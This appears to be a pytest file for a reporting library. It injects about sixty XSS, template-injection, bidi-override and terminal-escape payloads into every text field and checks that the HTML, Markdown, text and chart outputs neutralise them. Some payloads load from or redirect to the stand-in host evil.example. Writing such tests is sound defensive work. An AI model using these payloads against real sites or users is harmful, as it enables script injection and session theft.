"""Sixty ways to smuggle a script, a handler or a link into a page, in every text."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import suppress
from enum import Enum
from typing import Any

import attrs
import pytest
from markdown_it import MarkdownIt
from tests.unit.charts_shown import all_charts
from tests.unit.markup_read import Read
from tests.unit.views_shown import PLAN, VIEWS, all_views

import jbpcore as jbp
from jbpcore.errors import JbpError
from jbpcore.testing.whole_text import whole_text
from jbpcore.views.view import View

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<script\x0c>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=p>",
    "<button formaction=javascript:alert(1)>x",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='//evil.example'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>*{background:url(//evil.example)}</style>",
    "</style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" style="position:fixed;inset:0" x="',
    '" autofocus onfocus=alert(1) x="',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onmouseover=&quot;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    "https://evil.example/?a=1 and www.evil.example",
    "[x]: https://evil.example\n[x]",
    "| a | b |\n|---|---|\n| <b> | `x` |",
    "# h\n\n```html\n<script>alert(1)</script>\n```",
    "{{ 7*7 }} ${7*7} <%= 7*7 %> {goal} {0.__class__}",
    "\u202e<script>\u2066alert(1)</script>\u202c",
    "'; alert(1); // datum.value",
    "\x1b[2J\x1b]0;title\x07\x9b31m",
)
# What views make themselves; everything else came from a payload.
TAGS = frozenset(
    [
        "article",
        "dd",
        "desc",
        "div",
        "dl",
        "dt",
        "h2",
        "h3",
        "h4",
        "header",
        "li",
        "line",
        "ol",
        "p",
        "path",
        "rect",
        "section",
        "small",
        "span",
        "strong",
        "style",
        "svg",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "title",
        "tr",
        "ul",
        "a",
    ]
)
ATTRIBUTES = frozenset(
    [
        "align",
        "aria-hidden",
        "aria-label",
        "bgcolor",
        "border",
        "cellpadding",
        "cellspacing",
        "class",
        "colspan",
        "d",
        "data-label",
        "dir",
        "focusable",
        "height",
        "href",
        "lang",
        "rel",
        "role",
        "rx",
        "scope",
        "style",
        "valign",
        "width",
        "x",
        "x1",
        "x2",
        "y",
        "y1",
        "y2",
    ]
)
ALLOWED_LINKS = {"https://meet.example/june"}
EXPRESSIONS = {"expr", "labelExpr", "signal", "test", "update", "format", "href", "url"}


def poisoned(value: Any, payload: str) -> Any:
    """Return *value* with *payload* wherever it takes any text."""
    if isinstance(value, tuple):
        return tuple(poisoned(one, payload) for one in value)
    if isinstance(value, str) and not isinstance(value, Enum):
        return payload
    if not attrs.has(type(value)):
        return value
    for name in [field.name for field in attrs.fields(type(value)) if field.init]:
        old = getattr(value, name)
        if old is None or name in NO_TEXT or name.endswith(("id", "_by", "digest")):
            continue
        new = poisoned(old, payload)
        if new != old:
            # A zone, a link, a currency: it takes no text but its own.
            with suppress(JbpError):
                value = attrs.evolve(value, **{name: new})
    return value


NO_TEXT = {"by", "key", "move", "noun"}


def views_of(payload: str) -> dict[str, View]:
    return all_views(poisoned(PLAN, payload))


def test_there_are_sixty_and_they_get_everywhere() -> None:
    assert len(set(PAYLOADS)) >= 60
    text = whole_text(poisoned(PLAN, "PAYLOAD"))
    assert text.count("PAYLOAD") > 40
    for name in ("Maria Lopez", "Northwind", "Call every customer", "First joint deal"):
        assert name not in text
    assert "https://meet.example/june" in text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_anything_else(payload: str) -> None:
    for name, view in views_of(payload).items():
        check_markup(view, payload)
        check_markdown(view, USUAL[name])
        text = view.to_text(width=70)
        assert not [one for one in text if one != "\n" and ord(one) in BAD_FOR_SCREENS]


def check_markup(view: View, payload: str) -> None:
    for shown in (view.to_html(has_style=False), view.to_mail_html()):
        read = Read(shown)
        assert read.is_sound
        assert not read.open
        assert set(read.tags) <= TAGS
        assert {name for _, name, _ in read.attributes} <= ATTRIBUTES
        assert set(read.values("href")) <= ALLOWED_LINKS
        assert not any("javascript" in style for style in read.values("style"))
        if is_name(payload):
            assert " ".join(payload.translate(TURNING).split()) in read.text


def is_name(payload: str) -> bool:
    """Say whether a name may be so; one with line breaks or control codes may not."""
    try:
        jbp.Party(id="acme", name=payload)
    except JbpError:
        return False
    return True


def check_markdown(view: View, usual: list[str]) -> None:
    read = rendered(view)
    assert sorted(read.tags) == usual
    assert set(read.values("href")) <= ALLOWED_LINKS
    assert not read.values("src")


def rendered(view: View) -> Read:
    return Read(RENDERER.render(view.to_markdown()))


RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")
USUAL = {name: sorted(rendered(view).tags) for name, view in VIEWS.items()}
TURNING = dict.fromkeys((0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067))
BAD_FOR_SCREENS = {*range(32), 127, *range(0x80, 0xA0), *TURNING}


def iter_expressions(spec: Any) -> Iterator[str]:
    if isinstance(spec, list):
        for one in spec:
            yield from iter_expressions(one)
    if isinstance(spec, dict):
        for key, one in spec.items():
            if key in EXPRESSIONS and isinstance(one, str):
                yield one
            yield from iter_expressions(one)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_gets_into_an_expression_of_a_chart(payload: str) -> None:
    for name, chart in all_charts(poisoned(PLAN, payload)).items():
        spec = chart.to_dict()
        if name not in {"follow_through", "heat_map"} and is_name(payload):
            assert payload[:8] in chart.alt + chart.title
        for expression in iter_expressions(spec):
            assert payload not in expression
            assert "alert" not in expression
